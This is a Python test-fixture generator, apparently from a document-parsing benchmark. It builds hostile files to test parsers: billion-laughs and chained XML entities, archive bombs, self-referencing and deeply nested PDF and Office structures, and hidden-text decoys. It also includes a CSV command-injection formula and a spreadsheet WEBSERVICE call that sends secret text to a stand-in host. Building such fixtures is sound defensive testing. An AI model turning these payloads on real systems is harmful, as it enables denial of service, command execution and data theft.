"""Makes files that try to do harm: valid in their formats and small, but costly to read."""

import zlib
from collections.abc import Callable

from bench.office_files import open_cell, open_document, sheet_cell, slide_shape, slides, spreadsheet, zipped


def _pdf(objects: list[bytes]) -> bytes:
    """Return the PDF of `objects`, numbered from 1; the first is the catalogue."""
    data, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size, start = len(objects) + 1, len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return bytes(data + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start))


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (entries, len(packed), packed)


def _pdf_page(content: bytes, resources: bytes = b"") -> list[bytes]:
    """Return the objects of a PDF of one page with the operators `content`, which can use the font `/F`."""
    return [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>>>"
        % resources,
        _stream(content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]


SECRET = "Secret words"
"""Hidden text: nobody who opens a file that contains it sees it."""

_SOME_TEXT = b"BT /F 9 Tf 10 10 Td (Some text.) Tj ET "


def pdf_of_nested_forms(depth: int = 10, width: int = 10) -> bytes:
    """Return a PDF whose one line of text is drawn by forms that draw forms, `width` ** `depth` times."""
    objects = _pdf_page(b"/X Do", b"/XObject<</X 6 0 R>>")
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>"
    objects += [_stream(b"/X Do " * width, form % number) for number in range(7, 7 + depth)]
    return _pdf([*objects, _stream(_SOME_TEXT, form % 0)])


def pdf_of_operators(operator: bytes = b"(ab) Tj 1 0 Td ", count: int = 3_000_000) -> bytes:
    """Return a PDF of one page with the same operator `count` times, compressed a thousandfold."""
    return _pdf(_pdf_page(b"BT /F 9 Tf 10 10 Td " + operator * count + b" ET"))


def pdf_of_one_stream(pages: int = 400, count: int = 20_000) -> bytes:
    """Return a PDF whose pages all have the same long stream."""
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 5 + pages))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 3 0 R/Resources<</Font<</F 4 0 R>>>>>>"
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
            _stream(b"BT /F 9 Tf 10 10 Td " + b"(ab) Tj 1 0 Td " * count + b" ET"),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            *[page] * pages,
        ]
    )


def pdf_of_nested_arrays(depth: int = 200_000) -> bytes:
    """Return a PDF with nested arrays in its page tree."""
    return _pdf([b"<</Type/Catalog/Pages 2 0 R/X %s%s>>" % (b"[" * depth, b"]" * depth), *_pdf_page(_SOME_TEXT)[1:]])


def pdf_of_its_own_pages() -> bytes:
    """Return a PDF whose page tree contains itself."""
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"])


_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(body: str, before: str = "") -> bytes:
    """Return a Word file with `body` in its document, and `before` in front of the document."""
    return zipped({"word/document.xml": f"{before}<w:document {_WORD}><w:body>{body}</w:body></w:document>"})


def word_paragraph(text: str, properties: str = "") -> str:
    """Return a paragraph of a Word file with one run, which has `properties`."""
    return f"<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r></w:p>"


def chained_entities(count: int = 30_000) -> str:
    """Return a document type in which each entity refers to the next."""
    chain = "".join(f'<!ENTITY e{n} "&e{n + 1};">' for n in range(count))
    return f'<!DOCTYPE x [{chain}<!ENTITY e{count} "Hello">]>'


def laughing_entities() -> str:
    """Return a document type whose entities expand to a billion laughs."""
    return '<!DOCTYPE x [<!ENTITY e0 "ha">' + "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9)) + "]>"


def book(chapters: int = 1, *, spine: int = 0, nav: str = "", before: str = "", text: str = "Some text.") -> bytes:
    """Return an e-book.

    Args:
        chapters: number of chapters.
        spine: how often the first chapter is listed again.
        nav: the body of its table of contents.
        before: text in front of its description.
        text: the body of each chapter.
    """
    items = "".join(f'<item id="i{n}" href="{n}.xhtml" media-type="application/xhtml+xml"/>' for n in range(chapters))
    order = "".join(f'<itemref idref="i{n}"/>' for n in range(chapters)) + '<itemref idref="i0"/>' * spine
    container = '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'
    page = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>{}</body></html>'
    toc = '<item id="nav" href="nav.xhtml" properties="nav" media-type="application/xhtml+xml"/>'
    package = f'{before}<package xmlns="http://www.idpf.org/2007/opf"><manifest>{items}{toc}</manifest>'
    return zipped(
        {
            "META-INF/container.xml": container.replace("<container>", f"<container xmlns='{_CONTAINER}'>"),
            "book.opf": f"{package}<spine>{order}</spine></package>",
            "nav.xhtml": page.format(nav),
            **{f"{n}.xhtml": page.format(f"<p>{text}</p>") for n in range(chapters)},
        }
    )


_CONTAINER = "urn:oasis:names:tc:opendocument:xmlns:container"


def overlapping_archive(size: int = 200_000_000) -> bytes:
    """Return a Word file of 200 kB that would take `size` bytes unpacked."""
    return zipped({"word/document.xml": b"<w:document>" + b" " * size})


def _repeated(text: str, rows: int = 1, columns: int = 1) -> str:
    """Return an OpenDocument table whose one cell is repeated."""
    cell = open_cell(text, f'table:number-columns-repeated="{columns}"')
    return f"<table:table><table:table-row table:number-rows-repeated='{rows}'>{cell}</table:table-row></table:table>"


def _long(motif: str, length: int = 1_000_000) -> str:
    return motif * (length // len(motif))


FILES: dict[str, Callable[[], bytes]] = {
    "nested-forms.pdf": pdf_of_nested_forms,
    "operators.pdf": pdf_of_operators,
    "paths.pdf": lambda: pdf_of_operators(b"0 0 m 1 1 l S ", 2_000_000),
    "states.pdf": lambda: pdf_of_operators(b"q ", 2_000_000),
    "one-stream.pdf": pdf_of_one_stream,
    "hidden.pdf": lambda: _pdf(_pdf_page(_SOME_TEXT + f"BT 3 Tr /F 9 Tf 10 30 Td ({SECRET}) Tj ET ".encode() * 5_000)),
    "nested-arrays.pdf": pdf_of_nested_arrays,
    "own-pages.pdf": pdf_of_its_own_pages,
    "one-line.pdf": lambda: pdf_of_operators(b"(a) Tj ", 100_000),
    "cut.pdf": lambda: pdf_of_operators(count=1000)[:-100],
    "entities.docx": lambda: word(word_paragraph("&e0;"), chained_entities()),
    "laughs.docx": lambda: word(word_paragraph("&e9;"), laughing_entities()),
    "doctype.docx": lambda: word(word_paragraph("Some text."), "<!DOCTYPE x>"),
    "paragraphs-in-paragraphs.docx": lambda: word("<w:p>" * 100_000 + "</w:p>" * 100_000 + word_paragraph("Text.")),
    "tables-in-tables.docx": lambda: word("<w:tbl><w:tr><w:tc>" * 50_000 + word_paragraph("Text.")),
    "attributes.docx": lambda: word("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
    "one-tag.docx": lambda: word("<w:" + "p" * 20_000_000),
    "namespaces.docx": lambda: word(f'<x xmlns="{_long("u")}">' + "<y/>" * 100_000 + "</x>"),
    "hidden.docx": lambda: word(word_paragraph("Some text.") + word_paragraph(SECRET, "<w:vanish/>") * 20_000),
    "marks.docx": lambda: word(word_paragraph("Some text e" + "\u0301\u0323" * 100_000)),
    "dots.docx": lambda: word(word_paragraph("Some text " + _long("."))),
    "unpacked.docx": overlapping_archive,
    "cut.docx": lambda: word(word_paragraph("Some text."))[:-30],
    "entities.epub": lambda: book(before=chained_entities()),
    "laughs.epub": lambda: book(before=laughing_entities()),
    "nested-links.epub": lambda: book(nav="<a href='0.xhtml'>x" * 20_000 + "</a>" * 20_000),
    "repeated-chapter.epub": lambda: book(spine=200_000),
    "many-chapters.epub": lambda: book(3_000),
    "long-tag.epub": lambda: book(text="<" + _long("a") + "/>"),
    "hidden.epub": lambda: book(text="Some text." + f"<i style='display:none'>{SECRET}</i>" * 20_000),
    "stray-ends.epub": lambda: book(text="<b>" * 100_000 + "</i>" * 100_000 + "Some text."),
    "marks.epub": lambda: book(text="Some text e" + "\u0323\u0301" * 100_000),
    "stray-ends.html": ("<p>Some text." + "<b>" * 100_000 + "</i>" * 100_000).encode,
    "hidden.html": ("<p>Some text.</p><div hidden>" + "<div>" * 20_000 + SECRET).encode,
    "headers.html": ("<p>Some text." + "<div>" * 50_000 + "<header></header>" * 50_000).encode,
    "heading.html": ("<h1>Some text" + "a<b>b</b>" * 20_000 + "</h1>").encode,
    "attributes.html": ("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + f" title='{SECRET}'>Some text.").encode,
    "styles.html": f"<style>{SECRET}{_long('a')}</style><p>Some text.".encode,
    "at-rules.html": f"<style>{SECRET}{_long('@a{')}</style><p>Some text.".encode,
    "signs.html": ("<p>Some text." + _long("<")).encode,
    "comments.html": (f"<p>Some text.<!-- {SECRET}" + _long("<!--")).encode,
    "raised.html": ("<p>Some text." + "<sup>2" * 50_000).encode,
    "json.html": f"""<script type='application/ld+json'>{{"{SECRET}": {_long("[")}</script><p>Some text.""".encode,
    "long-tag.xhtml": f"<?xml version='1.0'?><html><body><p>Some text.<{_long('a')}/>".encode,
    "fences.txt": ("Some text.\n" + _long("```\n")).encode,
    "dots.txt": ("Some text " + _long(".", 5_000_000)).encode,
    "quotes.txt": ("Some text. " + _long("«「", 200_000)).encode,
    "marks.txt": ("Some text e" + "\u0301\u0323" * 100_000).encode,
    "lines.txt": ("Some text." + _long("\n", 5_000_000) + "More text.").encode,
    "address.txt": ("Some text.\n" + _long("a", 100_000) + "@b.org").encode,
    "brackets.txt": ("Some text. " + _long("([{")).encode,
    "bytes.txt": lambda: bytes(range(256)) * 400,
    "fences.md": ("# Some text\n\n" + _long("```\n") + _long("---\n")).encode,
    "signs.md": ("# Some text\n\n" + _long("#") + "\n" + _long("-") + "x").encode,
    "entities.xlsx": lambda: spreadsheet(f"<row>{sheet_cell('&e0;')}</row>", before=chained_entities()),
    "laughs.xlsx": lambda: spreadsheet(f"<row>{sheet_cell('&e9;')}</row>", before=laughing_entities()),
    "last-row.xlsx": lambda: spreadsheet(
        f"<row>{sheet_cell('Some text', 'A1')}</row><row r='1048576'>{sheet_cell('at the end', 'XFD1048576')}</row>"
    ),
    "merged.xlsx": lambda: spreadsheet(
        f"<row r='1'>{sheet_cell('Some text', 'A1')}{sheet_cell('More', 'B1')}</row>",
        after="<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 100_000 + "</mergeCells>",
    ),
    "strings.xlsx": lambda: spreadsheet(
        "<row><c t='s'><v>999999</v></c></row>",
        strings=f"<si><t>{SECRET}</t></si>" * 999_999 + "<si><t>Some text.</t></si>",
    ),
    "hidden.xlsx": lambda: spreadsheet(
        f"<row>{sheet_cell('Some text.')}</row>" + f'<row hidden="1">{sheet_cell(SECRET)}</row>' * 20_000
    ),
    "format.xlsx": lambda: spreadsheet(
        f'<row>{sheet_cell("Some text")}<c s="0"><v>1E+300</v></c></row>',
        styles=f'<numFmts><numFmt numFmtId="200" formatCode="{_long("0,", 100_000)}"/></numFmts>'
        '<cellXfs><xf numFmtId="200"/></cellXfs>',
    ),
    "formula.xlsx": lambda: spreadsheet(
        f"""<row>{sheet_cell("Some text")}<c t="str"><f>WEBSERVICE("http://x.example/{SECRET}")</f><v>5</v></c></row>"""
    ),
    "rows.xlsx": lambda: spreadsheet(f"<row>{sheet_cell('Some text.')}</row>" + "<row/>" * 1_048_575),
    "unpacked.xlsx": lambda: spreadsheet(" " * 200_000_000),
    "cut.xlsx": lambda: spreadsheet(sheet_cell("Some text."))[:-30],
    "laughs.pptx": lambda: slides(slide_shape("&e9;"), before=laughing_entities()),
    "hidden.pptx": lambda: slides(slide_shape("Some text.") + slide_shape(SECRET, 'hidden="1"') * 20_000),
    "groups.pptx": lambda: slides("<grpSp>" * 50_000 + slide_shape("Some text.") + "</grpSp>" * 50_000),
    "laughs.odt": lambda: open_document("text", "<text:p>&e9;</text:p>", before=laughing_entities()),
    "hidden.odt": lambda: open_document(
        "text",
        "<text:p>Some text.</text:p>"
        + f"<text:p><text:span text:style-name='h'>{SECRET}</text:span></text:p>" * 20_000,
        styles="<style:style style:name='h' style:family='text'>"
        "<style:text-properties text:display='none'/></style:style>",
    ),
    "nested.odt": lambda: open_document(
        "text",
        "<text:list><text:list-item>" * 50_000
        + "<text:p>Some text.</text:p>"
        + "</text:list-item></text:list>" * 50_000,
    ),
    "tables-in-tables.odt": lambda: open_document(
        "text",
        "<table:table><table:table-row><table:table-cell>" * 20_000
        + "<text:p>Some text.</text:p>"
        + "</table:table-cell></table:table-row></table:table>" * 20_000,
    ),
    "spaces.odt": lambda: open_document("text", '<text:p>Some text.<text:s text:c="9999999"/></text:p>' * 100),
    "repeated.ods": lambda: open_document("spreadsheet", _repeated("Some text", rows=1_048_576, columns=16_384)),
    "empty.ods": lambda: open_document("spreadsheet", _repeated("Some text.") + _repeated("", rows=1_048_576) * 1_000),
    "encrypted.odt": lambda: open_document("text", "?", manifest="<encryption-data/>"),
    "quotes.csv": ('Some text,"' + _long('""",', 1_000_000)).encode,
    "formula.csv": "Some text;=cmd|' /C calc'!A0;=HYPERLINK(0)\n".encode,
    "columns.csv": ("Some text" + "," * 2_000_000).encode,
    "parts.eml": (
        "From: a@b.c\nMIME-Version: 1.0\n"
        + "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(2_000))
        + "Content-Type: text/plain\n\nSome text.\n"
    ).encode,
}
"""Files that could take a process's memory, time or life, by name. They have few words, so that encoding takes little
of the time."""

_HOLDS = {
    "operators.pdf": "ab",
    "one-stream.pdf": "ab",
    "one-line.pdf": "aaa",
    "cut.pdf": "ab",
    "laughs.docx": "ha",
    "laughs.xlsx": "ha",
    "laughs.pptx": "ha",
    "laughs.odt": "ha",
    "entities.xlsx": "Hello",
    "entities.docx": "Hello",
    "paragraphs-in-paragraphs.docx": "Text.",
    "tables-in-tables.docx": "Text.",
    "bytes.txt": "0123456789",
}
"""Words that a person sees in a file, by the file's name, if they are not "Some text"."""

_SHOWS_NOTHING = frozenset(
    "paths.pdf states.pdf own-pages.pdf attributes.docx one-tag.docx namespaces.docx unpacked.docx"
    " unpacked.xlsx repeated.ods encrypted.odt".split()
)

_SHOWS_ALONE = frozenset(
    "nested-arrays.pdf doctype.docx long-tag.epub long-tag.xhtml headers.html attributes.html styles.html at-rules.html"
    " comments.html json.html hidden.pdf hidden.docx hidden.epub hidden.html hidden.pptx"
    " hidden.odt empty.ods".split()
)
"""Files in which a person sees "Some text." and nothing else."""


def shows(name: str, text: str) -> bool:
    """Return whether `text` agrees with what a person sees in the file `name`."""
    if name in _SHOWS_ALONE:
        return text.split() == ["Some", "text."]
    return name not in _SHOWS_NOTHING and _HOLDS.get(name, "Some text") in text and SECRET not in text
